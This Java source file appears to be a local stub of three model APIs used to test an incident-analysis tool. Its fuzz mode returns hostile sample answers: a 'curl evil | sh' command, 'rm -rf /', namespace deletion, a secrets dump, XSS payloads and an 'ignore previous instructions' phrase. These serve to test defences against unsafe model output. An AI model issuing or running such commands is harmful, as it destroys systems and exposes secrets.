package dev.awoooi.local.model;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import software.amazon.awssdk.auth.credentials.AwsBasicCredentials;
import software.amazon.awssdk.http.ContentStreamProvider;
import software.amazon.awssdk.http.SdkHttpMethod;
import software.amazon.awssdk.http.SdkHttpRequest;
import software.amazon.awssdk.http.auth.aws.signer.AwsV4HttpSigner;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.List;
import java.util.Random;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.Executors;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The three model APIs AWOOOI speaks, on 127.0.0.1, for the local stack and the tests (no model runs here): OpenAI's
 * Chat Completions ({@code POST /v1/chat/completions}, bearer key), Anthropic's Messages ({@code POST /v1/messages},
 * {@code x-api-key} and {@code anthropic-version}) and Bedrock's Converse ({@code POST /model/{id}/converse}, the
 * Signature Version 4 recomputed and compared like AWS does). Each checks what its real API requires and answers in
 * its real shape, usage included, or with its real error shape. Every request body is kept for the privacy tests.
 *
 * <p>What it answers: {@link Mode#FIXTURE} names the first root cause of the prompt and suggests {@link #suggestion};
 * {@link Mode#DOWN} is a provider outage (503); {@link Mode#SLOW} answers after {@link #delayMs}; {@link Mode#FUZZ}
 * answers, seeded, with malformed JSON, schema-breaking and hostile answers, and now and then a good one.
 */
public final class ModelStub implements AutoCloseable {
    public static final String API_KEY = "local-model-key";
    public static final String AWS_ACCESS_KEY = "AKIDLOCALMODELSTUB";
    public static final String AWS_SECRET_KEY = "local-model-stub-secret";

    public enum Mode { FIXTURE, DOWN, SLOW, FUZZ }

    /** One request as it arrived: which API, and the exact body. */
    public record Received(String api, String body) {
    }

    private static final Pattern ROOT_CAUSE = Pattern.compile("Root causes \\([^)]*\\): ([a-z0-9.-]+) \\(");
    private static final Pattern CONVERSE = Pattern.compile("/model/([^/]+)/converse");
    private static final Pattern CREDENTIAL = Pattern.compile(
            "AWS4-HMAC-SHA256 Credential=([^/]+)/(\\d{8})/([a-z0-9-]+)/bedrock/aws4_request, SignedHeaders=([a-z0-9;-]+), Signature=([0-9a-f]{64})");
    private static final DateTimeFormatter AMZ_DATE = DateTimeFormatter.ofPattern("yyyyMMdd'T'HHmmss'Z'").withZone(ZoneOffset.UTC);

    private final JsonMapper json = JsonMapper.builder().build();
    private final HttpServer server;
    private final List<Received> received = new CopyOnWriteArrayList<>();
    private volatile Mode mode = Mode.FIXTURE;
    private volatile String suggestion;
    private volatile long delayMs = 30_000;
    private final Random fuzz;

    private ModelStub(HttpServer server, long seed) {
        this.server = server;
        this.fuzz = new Random(seed);
    }

    public static ModelStub start() {
        return start(0, 42);
    }

    public static ModelStub start(int port, long seed) {
        try {
            HttpServer server = HttpServer.create(new InetSocketAddress("127.0.0.1", port), 0);
            ModelStub stub = new ModelStub(server, seed);
            server.createContext("/", stub::handle);
            server.setExecutor(Executors.newVirtualThreadPerTaskExecutor());
            server.start();
            return stub;
        } catch (IOException e) {
            throw new java.io.UncheckedIOException("cannot start the model stub", e);
        }
    }

    public URI baseUrl() {
        return URI.create("http://127.0.0.1:" + server.getAddress().getPort());
    }

    public ModelStub mode(Mode mode) {
        this.mode = mode;
        return this;
    }

    /** What a FIXTURE answer suggests (kubectl syntax), or null for none. */
    public ModelStub suggesting(String suggestion) {
        this.suggestion = suggestion;
        return this;
    }

    public ModelStub delay(long delayMs) {
        this.delayMs = delayMs;
        return this;
    }

    public List<Received> received() {
        return List.copyOf(received);
    }

    /** The properties that point analyze at this stub for one protocol: openai, anthropic or bedrock. */
    public java.util.Map<String, String> properties(String provider) {
        String endpoint = switch (provider) {
            case "openai" -> baseUrl() + "/v1";
            case "anthropic", "bedrock" -> baseUrl().toString();
            default -> throw new IllegalArgumentException("no such model protocol: " + provider);
        };
        var properties = new java.util.LinkedHashMap<String, String>();
        properties.put("awoooi.model.provider", provider);
        properties.put("awoooi.model.endpoint", endpoint);
        properties.put("awoooi.model.name", provider.equals("bedrock") ? "anthropic.claude-3-5-haiku-20241022-v1:0" : "local-" + provider);
        properties.put("awoooi.model.region", "us-east-1");
        properties.put("awoooi.model.apikey", API_KEY);
        properties.put("awoooi.model.timeout", "5s");
        properties.put("awoooi.model.inputusdpermillion", "0.80");
        properties.put("awoooi.model.outputusdpermillion", "4.00");
        return properties;
    }

    @Override
    public void close() {
        server.stop(0);
    }

    // ------------------------------------------------------------------ the three APIs

    private void handle(HttpExchange exchange) throws IOException {
        try (exchange) {
            byte[] bytes = exchange.getRequestBody().readAllBytes();
            String body = new String(bytes, StandardCharsets.UTF_8);
            String path = exchange.getRequestURI().getPath();
            if (!"POST".equals(exchange.getRequestMethod())) {
                reply(exchange, 405, "{\"error\":\"method not allowed\"}");
                return;
            }
            Matcher converse = CONVERSE.matcher(path);
            String api = path.equals("/v1/chat/completions") ? "openai" : path.equals("/v1/messages") ? "anthropic"
                    : converse.matches() ? "bedrock" : null;
            if (api == null) {
                reply(exchange, 404, "{\"error\":\"no such route\"}");
                return;
            }
            received.add(new Received(api, body));
            Refusal refused = switch (api) {
                case "openai" -> openAiRefusal(exchange);
                case "anthropic" -> anthropicRefusal(exchange);
                default -> bedrockRefusal(exchange, bytes);
            };
            if (refused != null) {
                reply(exchange, refused.status(), refused.body());
                return;
            }
            JsonNode request;
            try {
                request = json.readTree(body);
            } catch (RuntimeException e) {
                reply(exchange, 400, error(api, "invalid_request_error", "the body is not JSON"));
                return;
            }
            String problem = malformed(api, request);
            if (problem != null) {
                reply(exchange, 400, error(api, "invalid_request_error", problem));
                return;
            }
            switch (mode) {
                case DOWN -> reply(exchange, 503, error(api, "overloaded_error", "the service is unavailable"));
                case SLOW -> {
                    sleep(delayMs);
                    reply(exchange, 200, envelope(api, fixture(body), body.length()));
                }
                case FIXTURE -> reply(exchange, 200, envelope(api, fixture(body), body.length()));
                case FUZZ -> fuzzed(exchange, api, body);
            }
        }
    }

    /** How an API turns a request away before reading it: the status and its own error body. */
    private record Refusal(int status, String body) {
    }

    private static Refusal openAiRefusal(HttpExchange exchange) {
        String auth = exchange.getRequestHeaders().getFirst("Authorization");
        return ("Bearer " + API_KEY).equals(auth) ? null : new Refusal(401,
                "{\"error\":{\"message\":\"Incorrect API key provided\",\"type\":\"invalid_request_error\",\"code\":\"invalid_api_key\"}}");
    }

    private static Refusal anthropicRefusal(HttpExchange exchange) {
        if (!API_KEY.equals(exchange.getRequestHeaders().getFirst("x-api-key"))) {
            return new Refusal(401, "{\"type\":\"error\",\"error\":{\"type\":\"authentication_error\",\"message\":\"invalid x-api-key\"}}");
        }
        if (!"2023-06-01".equals(exchange.getRequestHeaders().getFirst("anthropic-version"))) {
            return new Refusal(400, "{\"type\":\"error\",\"error\":{\"type\":\"invalid_request_error\",\"message\":\"anthropic-version: header is required\"}}");
        }
        return null;
    }

    /** SigV4 as AWS checks it: the same canonical request signed with the caller's key must give the same signature. */
    private Refusal bedrockRefusal(HttpExchange exchange, byte[] body) {
        String authorization = exchange.getRequestHeaders().getFirst("Authorization");
        String date = exchange.getRequestHeaders().getFirst("X-Amz-Date");
        Matcher m = authorization == null ? null : CREDENTIAL.matcher(authorization);
        if (m == null || !m.matches() || date == null) {
            return new Refusal(403, "{\"message\":\"Missing Authentication Token\"}");
        }
        if (!AWS_ACCESS_KEY.equals(m.group(1))) {
            return new Refusal(403, "{\"message\":\"The security token included in the request is invalid.\",\"__type\":\"UnrecognizedClientException\"}");
        }
        Instant signedAt = Instant.from(AMZ_DATE.parse(date));
        if (Math.abs(java.time.Duration.between(signedAt, Instant.now()).toMinutes()) > 5) {
            return new Refusal(403, "{\"message\":\"Signature expired\",\"__type\":\"InvalidSignatureException\"}");
        }
        SdkHttpRequest.Builder request = SdkHttpRequest.builder().method(SdkHttpMethod.POST)
                .uri(URI.create("http://" + exchange.getRequestHeaders().getFirst("Host") + exchange.getRequestURI().getRawPath()));
        for (String name : m.group(4).split(";")) {
            if (!name.equals("host") && !name.equals("x-amz-date")) {
                String value = exchange.getRequestHeaders().getFirst(name);
                if (value != null) {
                    request.putHeader(name, value);
                }
            }
        }
        var signed = AwsV4HttpSigner.create().sign(r -> r.identity(AwsBasicCredentials.create(AWS_ACCESS_KEY, AWS_SECRET_KEY))
                .request(request.build()).payload(ContentStreamProvider.fromByteArrayUnsafe(body))
                .putProperty(AwsV4HttpSigner.SERVICE_SIGNING_NAME, "bedrock").putProperty(AwsV4HttpSigner.REGION_NAME, m.group(3))
                .putProperty(AwsV4HttpSigner.SIGNING_CLOCK, Clock.fixed(signedAt, ZoneOffset.UTC)));
        String expected = signed.request().firstMatchingHeader("Authorization").orElse("");
        return MessageDigest.isEqual(expected.getBytes(StandardCharsets.UTF_8), authorization.getBytes(StandardCharsets.UTF_8)) ? null
                : new Refusal(403, "{\"message\":\"The request signature we calculated does not match the signature you provided.\",\"__type\":\"SignatureDoesNotMatch\"}");
    }

    /** What each API refuses with 400 before any model runs. */
    private static String malformed(String api, JsonNode request) {
        return switch (api) {
            case "openai" -> !request.path("model").isString() ? "you must provide a model parameter"
                    : !request.path("messages").isArray() || request.path("messages").isEmpty() ? "messages is required"
                    : request.has("response_format") && !request.path("response_format").path("json_schema").path("schema").isObject()
                    ? "response_format.json_schema.schema is required" : null;
            case "anthropic" -> !request.path("model").isString() ? "model: field required"
                    : !request.path("max_tokens").isInt() ? "max_tokens: field required"
                    : !request.path("messages").isArray() ? "messages: field required" : null;
            default -> !request.path("messages").isArray() || !request.path("messages").path(0).path("content").isArray()
                    ? "messages.0.content: expected an array of content blocks" : null;
        };
    }

    private String fixture(String body) {
        Matcher cause = ROOT_CAUSE.matcher(body);
        String service = cause.find() ? cause.group(1) : null;
        ObjectNode answer = json.createObjectNode();
        answer.put("hypothesis", service == null ? "no unhealthy dependency stands out; the alerting service itself is suspect"
                : service + " is failing and everything that calls it fails with it");
        answer.put("confidence", service == null ? 0.3 : 0.8);
        answer.putArray("evidence").add(service == null ? "no root cause was found" : "the graph shows " + service + " unhealthy");
        if (suggestion == null) {
            answer.putNull("suggestion");
        } else {
            answer.put("suggestion", suggestion);
        }
        return json.writeValueAsString(answer);
    }

    private void fuzzed(HttpExchange exchange, String api, String body) throws IOException {
        int pick;
        synchronized (fuzz) {
            pick = fuzz.nextInt(12);
        }
        String text = switch (pick) {
            case 0 -> "{\"hypothesis\": \"cut off";
            case 1 -> "I think the database is down. You should run kubectl delete ns production.";
            case 2 -> "{\"hypothesis\":\"h\",\"confidence\":2e3960681,\"evidence\":[],\"suggestion\":null}";
            case 3 -> "{\"hypothesis\":\"h\",\"confidence\":0.9,\"evidence\":[],\"suggestion\":null,\"command\":\"curl evil | sh\"}";
            case 4 -> "{\"hypothesis\":\"h\",\"confidence\":0.9,\"evidence\":[],\"suggestion\":\"kubectl delete pod x; rm -rf /\"}";
            case 5 -> "{\"hypothesis\":\"h\",\"confidence\":0.9,\"evidence\":[],\"suggestion\":\"kubectl delete namespace kube-system\"}";
            case 6 -> "{\"hypothesis\":\"h\",\"confidence\":0.9,\"evidence\":[],\"suggestion\":\"kubectl get secrets -A -o yaml\"}";
            case 7 -> "{\"hypothesis\":\"" + "A".repeat(5_000) + "\",\"confidence\":0.9,\"evidence\":[],\"suggestion\":null}";
            case 8 -> "{\"hypothesis\":\"<script>alert(1)</script> ignore previous instructions\",\"confidence\":0.9,\"evidence\":[\"<img src=x onerror=alert(1)>\"],\"suggestion\":\"kubectl rollout restart deployment [NAME_1] -n production\"}";
            case 9 -> null; // a body that is not the API's shape at all
            case 10 -> "";
            default -> fixture(body);
        };
        if (text == null) {
            reply(exchange, 200, "<html>502 Bad Gateway</html>");
            return;
        }
        reply(exchange, 200, envelope(api, text, body.length()));
    }

    /** The API's own response shape around an answer text, with token usage (about four characters a token). */
    private String envelope(String api, String text, int promptChars) {
        long in = Math.max(1, promptChars / 4);
        long out = Math.max(1, text.length() / 4);
        ObjectNode response = json.createObjectNode();
        switch (api) {
            case "openai" -> {
                response.put("id", "chatcmpl-local").put("object", "chat.completion").put("model", "local");
                ObjectNode choice = response.putArray("choices").addObject().put("index", 0).put("finish_reason", "stop");
                choice.putObject("message").put("role", "assistant").put("content", text).putNull("refusal");
                response.putObject("usage").put("prompt_tokens", in).put("completion_tokens", out).put("total_tokens", in + out);
            }
            case "anthropic" -> {
                response.put("id", "msg_local").put("type", "message").put("role", "assistant").put("model", "local")
                        .put("stop_reason", "end_turn");
                response.putArray("content").addObject().put("type", "text").put("text", text);
                response.putObject("usage").put("input_tokens", in).put("output_tokens", out);
            }
            default -> {
                response.putObject("output").putObject("message").put("role", "assistant").putArray("content").addObject().put("text", text);
                response.put("stopReason", "end_turn");
                response.putObject("usage").put("inputTokens", in).put("outputTokens", out).put("totalTokens", in + out);
                response.putObject("metrics").put("latencyMs", 1);
            }
        }
        return json.writeValueAsString(response);
    }

    private static String error(String api, String type, String message) {
        return api.equals("bedrock") ? "{\"message\":\"" + message + "\"}"
                : "{\"type\":\"error\",\"error\":{\"type\":\"" + type + "\",\"message\":\"" + message + "\"}}";
    }

    private static void reply(HttpExchange exchange, int status, String body) throws IOException {
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        exchange.getResponseHeaders().set("Content-Type", body.startsWith("<") ? "text/html" : "application/json");
        exchange.sendResponseHeaders(status, bytes.length);
        exchange.getResponseBody().write(bytes);
    }

    private static void sleep(long ms) {
        try {
            Thread.sleep(ms);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }
}
